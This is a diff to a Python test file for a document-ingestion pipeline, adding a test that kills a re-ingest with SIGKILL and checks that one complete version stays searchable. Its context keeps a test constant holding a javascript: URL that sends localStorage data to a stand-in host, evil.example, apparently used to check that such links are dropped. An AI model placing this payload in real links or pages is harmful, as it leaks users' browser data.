@@ -3,16 +3,24 @@ folder, huge files; and a re-ingest killed midway keeps the old version."""
 
 from __future__ import annotations
 
+import signal
+import subprocess
+import sys
+import time
 from typing import TYPE_CHECKING
 
 import pytest
 
+from groundwork.ingest.pipeline import Ingestor
 from groundwork.retrieval.base import SearchFilter
+from groundwork.retrieval.embedded import EmbeddedIndex
+from groundwork.storage.sqlite import SQLiteStorage
+from tests.conftest import REPO
+from tests.retrieval.conftest import HashingEmbedder
 
 if TYPE_CHECKING:
     from pathlib import Path
 
-    from groundwork.ingest.pipeline import Ingestor
     from groundwork.retrieval.keyword import KeywordIndex
 
 SCRIPT = "javascript:fetch('//evil.example/?k='+localStorage.key)"
@@ -70,3 +78,54 @@ def test_given_an_http_url_when_ingested_then_it_is_kept(
 
     hits = index.search("tides", SearchFilter(collections=["c"]), 5)
     assert [hit.card.url for hit in hits] == ["https://example.org/tides"]
+
+
+ORIGINAL = "# Tides\n\nSpring tides come twice a month.\n"
+CHANGED = "# Tides\n\nNeap tides come between the spring tides.\n"
+
+
+def _texts(index: EmbeddedIndex) -> list[str]:
+    return [hit.card.text for hit in index.search("tides", SearchFilter(collections=["c"]), 5)]
+
+
+@pytest.mark.parametrize(
+    ("point", "searchable"),
+    [("embedding", ORIGINAL), ("recording", CHANGED)],
+)
+def test_given_a_reingest_killed_midway_then_a_version_stays_searchable_and_reingest_works(
+    tmp_path: Path, point: str, searchable: str
+) -> None:
+    """Given an ingested file that changed, when its re-ingest is killed with SIGKILL (while
+    embedding, or after the swap before the source's hash is written), then one whole version
+    is still searchable, and ingesting the original again brings the original back."""
+    root = tmp_path / "docs"
+    root.mkdir()
+    doc = root / "tides.md"
+    doc.write_text(ORIGINAL)
+    index = EmbeddedIndex(tmp_path / "index.sqlite3", HashingEmbedder())
+    storage = SQLiteStorage(tmp_path / "state.sqlite3")
+    Ingestor(index, storage).ingest([doc], collection="c", root=root)
+    doc.write_text(CHANGED)
+    marker = tmp_path / "reached"
+
+    worker = subprocess.Popen(
+        [sys.executable, "-m", "tests.ingest.reingest_worker",
+         str(tmp_path), str(doc), str(root), point, str(marker)],
+        cwd=REPO,
+    )  # fmt: skip
+    try:
+        deadline = time.monotonic() + 60
+        while not marker.exists():
+            assert worker.poll() is None, "the re-ingest ended before the kill point"
+            assert time.monotonic() < deadline, "the re-ingest never reached the kill point"
+            time.sleep(0.05)
+    finally:
+        worker.send_signal(signal.SIGKILL)
+        worker.wait(10)
+
+    assert _texts(index) == [searchable.split("\n\n")[1].strip()]
+    doc.write_text(ORIGINAL)
+    report = Ingestor(index, storage).ingest([doc], collection="c", root=root)
+    assert report.failed == {}
+    assert _texts(index) == ["Spring tides come twice a month."]
+    assert index.count("c") == 1
